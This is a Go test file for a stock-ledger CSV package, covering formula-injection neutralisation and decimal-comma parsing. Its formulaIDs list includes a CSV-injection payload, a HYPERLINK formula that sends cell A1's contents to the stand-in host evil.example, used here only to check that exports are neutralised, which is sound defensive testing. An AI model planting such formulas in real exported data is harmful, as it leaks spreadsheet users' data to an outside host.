package ledgercsv_test

import (
	"bytes"
	"strings"
	"testing"

	"github.com/stockctl/stockctl/ledgercsv"
)

// formulaIDs are product IDs a spreadsheet would run, or that look like the quote that
// neutralises them.
var formulaIDs = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"click")`, `@SUM(A1:A9)`, `+1+1`, `-5`, `-`, `=`,
	`'=already quoted`, `''x`, `'`, `'plain`, `plain`, `a=b`,
}

func TestNeutralise(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"=1+1", "'=1+1"}, {"+1", "'+1"}, {"-1", "'-1"}, {"@SUM(A1)", "'@SUM(A1)"},
		{"\t=1", "'\t=1"}, {"\r=1", "'\r=1"}, {"'=1", "''=1"}, {"''", "'''"},
		{"'", "'"}, {"'a", "'a"}, {"a=1", "a=1"}, {"", ""},
	} {
		if got := ledgercsv.Neutralise(tc.in); got != tc.want {
			t.Errorf("Neutralise(%q) = %q, want %q", tc.in, got, tc.want)
		}
		if back := ledgercsv.Unneutralise(ledgercsv.Neutralise(tc.in)); back != tc.in {
			t.Errorf("Unneutralise(Neutralise(%q)) = %q", tc.in, back)
		}
	}
}

// TestWriteNeutralisesFormulas: the original format's file holds no product ID a
// spreadsheet runs, its quantities stay numbers (a sale's negative one too), and
// reading it back gives the exact product IDs.
func TestWriteNeutralisesFormulas(t *testing.T) {
	var b bytes.Buffer
	w := ledgercsv.NewWriter(&b)
	date := mustTime(t, "2024-03-01 00:00:00")
	for _, id := range formulaIDs {
		w.Write(date, id, -1250, 500)
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSuffix(b.String(), "\r\n"), "\r\n")[1:]
	for _, line := range lines {
		cells := strings.Split(line, ";")
		product := strings.TrimPrefix(cells[1], `"`)
		if strings.ContainsAny(product[:1], "=+-@\t\r") {
			t.Errorf("line %q: the product cell is a live formula", line)
		}
		if cells[len(cells)-2] != "-12.50" {
			t.Errorf("line %q: the quantity is not the number -12.50", line)
		}
	}
	rows, bad, err := ledgercsv.Read(&b, ledgercsv.Options{})
	if err != nil || len(bad) != 0 || len(rows) != len(formulaIDs) {
		t.Fatalf("read back: %d rows, %v, %v", len(rows), bad, err)
	}
	for i, r := range rows {
		if r.Product.String() != formulaIDs[i] || !r.Sale || r.Quantity.String() != "12.50" {
			t.Errorf("row %d read back as %q %v %s, want %q", i, r.Product.String(), r.Sale, r.Quantity, formulaIDs[i])
		}
	}
}

func TestDecimalComma(t *testing.T) {
	const header = "operation_date;product_ID;operation_qt;stock\r\n"
	french := header + "01/02/2023;P1;12,50;12,50\r\n02/02/2023;P1;-2,5;10\r\n"
	rows, bad, err := ledgercsv.Read(strings.NewReader(french), ledgercsv.Options{DecimalComma: true})
	if err != nil || len(bad) != 0 || len(rows) != 2 || rows[0].Quantity.String() != "12.50" || rows[0].Stock.String() != "12.50" ||
		!rows[1].Sale || rows[1].Quantity.String() != "2.50" || rows[1].Stock.String() != "10.00" {
		t.Fatalf("Read with DecimalComma = %+v, %v, %v", rows, bad, err)
	}
	// Without the option, the refusal points at it.
	_, bad, _ = ledgercsv.Read(strings.NewReader(french), ledgercsv.Options{})
	if len(bad) != 2 || !strings.Contains(bad[0].Msg, "use a dot for decimals (12.50), or import a file with decimal commas with --decimal-comma") {
		t.Fatalf("Read without DecimalComma: %v", bad)
	}
	// With it, a dot is refused: 1.250 may be a thousands separator.
	_, bad, _ = ledgercsv.Read(strings.NewReader(header+"01/02/2023;P1;1.250;\r\n"), ledgercsv.Options{DecimalComma: true})
	if len(bad) != 1 || !strings.Contains(bad[0].Msg, "write decimals with a comma") {
		t.Fatalf("a dot with DecimalComma: %v", bad)
	}

	var b bytes.Buffer
	w := ledgercsv.NewWriter(&b)
	w.DecimalComma = true
	w.Write(mustTime(t, "2024-03-01 00:00:00"), "P1", 1250, 1250)
	w.Write(mustTime(t, "2024-03-01 00:00:00"), "P1", -250, 1000)
	w.Flush()
	if want := "01/03/2024;P1;12,50;12,50\r\n01/03/2024;P1;-2,50;10\r\n"; !strings.HasSuffix(b.String(), want) {
		t.Fatalf("written with DecimalComma:\n%q\nwant it to end with\n%q", b.String(), want)
	}
	rows, bad, err = ledgercsv.Read(&b, ledgercsv.Options{DecimalComma: true})
	if err != nil || len(bad) != 0 || len(rows) != 2 || rows[1].Quantity.String() != "2.50" {
		t.Fatalf("read back: %+v %v %v", rows, bad, err)
	}
}

// TestDecimalCommaMessages: a quantity refused under --decimal-comma is quoted as the
// file wrote it, with commas.
func TestDecimalCommaMessages(t *testing.T) {
	const header = "operation_date;product_ID;operation_qt;stock\n"
	for in, want := range map[string]string{
		"-12,505;": `quantity: invalid quantity: "12,505": at most two decimal places`,
		"12,;":     `quantity: invalid quantity: "12,": not a decimal number; give digits with an optional comma, such as 5 or 12,50`,
		"0,00;":    `quantity: invalid quantity: "0,00": must be greater than zero`,
		"5;1,234":  `stock: invalid quantity: "1,234": at most two decimal places`,
	} {
		_, bad, _ := ledgercsv.Read(strings.NewReader(header+"01/02/2023;P1;"+in+"\n"), ledgercsv.Options{DecimalComma: true})
		if len(bad) != 1 || bad[0].Msg != want {
			t.Errorf("%q: %v, want %q", in, bad, want)
		}
	}
}
